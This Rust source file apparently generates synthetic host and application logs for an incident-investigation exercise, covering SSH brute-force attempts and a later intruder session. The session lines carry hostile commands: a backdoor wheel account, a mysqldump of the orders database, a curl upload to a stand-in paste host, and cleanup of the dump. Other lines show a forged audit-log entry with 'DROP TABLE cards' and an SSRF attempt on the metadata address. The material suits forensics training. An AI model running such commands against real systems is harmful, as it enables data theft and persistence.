//! What the machine and the application wrote: logins at orders-1, and a line for each request that came through.

use std::collections::BTreeMap;

use serde_json::json;

use crate::cloudwatch::{Event, Stream};
use crate::facts::Facts;
use crate::network::OPEN;
use crate::tree::{Object, Record};
use crate::web::Request;
use crate::world::{INTRUDER_IP, Ids, at, civil, iso, iso_millis, weekday};

const DAY: i64 = 86_400;

/// A try of a stranger to log in at port 22.
#[derive(Debug, Clone)]
pub(crate) struct Attempt {
    pub(crate) time: i64,
    pub(crate) ip: String,
    pub(crate) port: u16,
    user: &'static str,
}

/// What 198.51.100.150 to .155 tried while the port was open.
pub(crate) fn attempts(seed: u64) -> Vec<Attempt> {
    let mut ids = Ids::new(seed, 27);
    let mut out = Vec::new();
    let mut time = at("04-09 02:41:19");
    while time < at(OPEN.1) {
        let ip = format!("198.51.100.{}", ids.0.u32(150..156));
        let user = ["root", "admin", "ec2-user", "ubuntu", "oracle"][ids.0.usize(..5)];
        out.push(Attempt { time, ip, port: ids.0.u16(33_000..60_000), user });
        time += ids.0.i64(900..3_300);
    }
    out
}

/// The exported log of logins: `/acme/orders-1/secure`, with the time of the export task before each line.
pub(crate) fn secure(attempts: &[Attempt], seed: u64, facts: &mut Facts) -> Object {
    let mut ids = Ids::new(seed, 28);
    let mut lines: Vec<(i64, String)> = Vec::new();
    let mut day = at("03-01 00:00:00");
    while day < at("05-01 00:00:00") {
        ordinary(day, &mut ids, &mut lines);
        day += DAY;
    }
    for attempt in attempts {
        let (pid, Attempt { ip, port, user, .. }) = (ids.0.u32(2_000..30_000), attempt);
        let unknown = if matches!(*user, "root" | "ec2-user") { "" } else { "invalid user " };
        let text = format!("sshd[{pid}]: Failed password for {unknown}{user} from {ip} port {port} ssh2");
        lines.push((attempt.time, text));
    }
    intruder(&mut lines);
    lines.sort_by_key(|(time, _)| *time);
    tell(&lines, facts);
    let record =
        |(time, text): (i64, String)| Record::nameless(format!("{} {}", iso_millis(time * 1_000), syslog(time, &text)));
    let records = lines.into_iter().map(record).collect();
    let key = "cwl-export/7f3a9c52-1d0e-4b6f-8a21-90c4e5d7b613/i-0a1b2c3d4000000a1/000000.gz".to_owned();
    let mut object = Object::of_lines(key, "cloudwatch_logs", 0, "", records);
    object.delivered = "~".to_owned();
    object
}

fn syslog(time: i64, text: &str) -> String {
    let c = civil(time);
    let month = if c.month == 3 { "Mar" } else { "Apr" };
    format!("{month} {:2} {:02}:{:02}:{:02} orders-1 {text}", c.day, c.hour, c.minute, c.second)
}

fn ordinary(day: i64, ids: &mut Ids, lines: &mut Vec<(i64, String)>) {
    for hour in [1, 13] {
        let (time, pid) = (day + hour * 3_600 + 601, ids.0.u32(2_000..30_000));
        lines.push((
            time,
            format!("CROND[{pid}]: pam_unix(crond:session): session opened for user root(uid=0) by (uid=0)"),
        ));
        lines.push((time + 1, format!("CROND[{pid}]: pam_unix(crond:session): session closed for user root")));
    }
    if weekday(day) == 1 {
        let time = day + 36_000 + ids.0.i64(0..3_000);
        let command = "PWD=/home/ssm-user ; USER=root ; COMMAND=/usr/bin/systemctl status orders";
        lines.push((time, format!("sudo[{}]: ssm-user : TTY=pts/0 ; {command}", ids.0.u32(2_000..30_000))));
    }
}

/// The session in which the database is dumped.
fn intruder(lines: &mut Vec<(i64, String)>) {
    let sudo = |command: &str| {
        format!("sudo[18844]: ec2-user : TTY=pts/1 ; PWD=/home/ec2-user ; USER=root ; COMMAND={command}")
    };
    let mut say = |time: &str, text: String| lines.push((at(&format!("04-{time}")), text));
    say(
        "09 02:03:13",
        format!("sshd[9211]: Connection closed by authenticating user ec2-user {INTRUDER_IP} port 50122 [preauth]"),
    );
    say(
        "10 05:06:02",
        format!(
            "sshd[18790]: Accepted publickey for ec2-user from {INTRUDER_IP} port 51514 ssh2: ED25519 \
         SHA256:3xAmpLeK3yF1ng3rPr1nt0000000000000000000000"
        ),
    );
    say(
        "10 05:06:02",
        "sshd[18790]: pam_unix(sshd:session): session opened for user ec2-user(uid=1000) by (uid=0)".to_owned(),
    );
    say("10 05:09:30", sudo("/usr/sbin/useradd -m -G wheel support"));
    say("10 05:09:30", "useradd[18861]: new user: name=support, UID=1002, GID=1002, home=/home/support, shell=/bin/bash, from=/dev/pts/1".to_owned());
    say(
        "10 05:14:48",
        sudo("/usr/bin/mysqldump -h orders-db-1 -u admin -p --databases orders --result-file=/tmp/.o.sql"),
    );
    say("10 05:19:52", sudo("/usr/bin/curl -sT /tmp/.o.sql.gz https://cdn-sync.paste-example.net/u/7f"));
    say("10 05:54:10", sudo("/usr/bin/rm -f /tmp/.o.sql /tmp/.o.sql.gz"));
    say("10 05:58:40", "sshd[18790]: pam_unix(sshd:session): session closed for user ec2-user".to_owned());
}

fn tell(lines: &[(i64, String)], facts: &mut Facts) {
    let part = "host";
    let failed: Vec<&(i64, String)> = lines.iter().filter(|(_, text)| text.contains("Failed password")).collect();
    facts.note(part, "failed_passwords", "Failed passwords, 198.51.100.150 to .155", failed.len());
    let span: Vec<String> = [failed.first(), failed.last()].into_iter().flatten().map(|(time, _)| iso(*time)).collect();
    facts.note(part, "failed_span", "The first and the last of them", json!(span));
    facts.note(part, "accepted", "The one login that succeeded (203.0.113.66 port 51514)", iso(at("04-10 05:06:02")));
    facts.note(part, "sudo", "Commands as root in that session", json!(["useradd", "mysqldump", "curl", "rm"]));
    facts.note(part, "useradd", "The account `support` is made", iso(at("04-10 05:09:30")));
    facts.note(part, "lines", "Lines of the host log", lines.len());
}

const ORDERS_WEB: Stream = Stream {
    group: "/ecs/orders-web",
    stream: "web/orders-web/3f1c9b7a5e2d4c6f8a0b1c2d3e4f5a6b",
    filter: "to-archive",
};

/// The application's log, a file of Firehose for each day.
pub(crate) fn application(requests: &[Request], seed: u64, facts: &mut Facts) -> Vec<Object> {
    let mut ids = Ids::new(seed, 29);
    let mut events: Vec<Event> =
        requests.iter().filter(|one| !one.blocked()).map(|one| served(one, &mut ids)).collect();
    let mut plain = |millis: i64, message: String| events.push(Event { millis, message, table: None });
    for time in ["03-01 00:10:00", "03-15 10:00:07", "04-10 05:41:20"] {
        plain(at(time) * 1_000, "orders-web 4.11.2 listening on :8080".to_owned());
    }
    // The stack of the failed call, of several lines.
    let forged = requests.iter().find(|one| one.path == "/proxy").expect("the scan tried it");
    plain(
        forged.millis + 3_004,
        "UpstreamError: connect timeout 169.254.169.254:80\n    at fetch (/app/src/proxy.js:41:11)\n    at /app/src/routes.js:88:5"
            .to_owned(),
    );
    // Somebody orders something, and the note of the order pretends to be an entry of the database's audit log.
    let note = "order 8114 note: please\n1775798000000000,orders-db-1,root,10.0.1.25,77,9001,QUERY,orders,'DROP TABLE cards',0";
    plain(at("04-10 12:40:00") * 1_000, note.to_owned());
    events.sort_by_key(|event| event.millis);
    facts.note("host", "application_lines", "Events of the application's log", events.len());
    let mut days: BTreeMap<i64, Vec<Event>> = BTreeMap::new();
    for event in events {
        days.entry(event.millis / 1_000 / DAY).or_default().push(event);
    }
    let file = |(day, events): (i64, Vec<Event>)| {
        let time = (day + 1) * DAY - 60;
        ORDERS_WEB.file("cwl-firehose/orders-web", time, &events, day % 20 == 0, &mut ids)
    };
    days.into_iter().map(file).collect()
}

fn served(request: &Request, ids: &mut Ids) -> Event {
    let millis = request.millis + ids.0.i64(2..9);
    let message = json!({
        "ts": iso_millis(millis), "level": if request.status >= 500 { "ERROR" } else { "INFO" }, "logger": "http",
        "method": request.verb, "path": request.path, "query": request.args, "status": request.status,
        "bytes": request.sent, "client": request.ip, "agent": request.agent, "trace_id": request.trace,
    });
    Event { millis, message: message.to_string(), table: None }
}
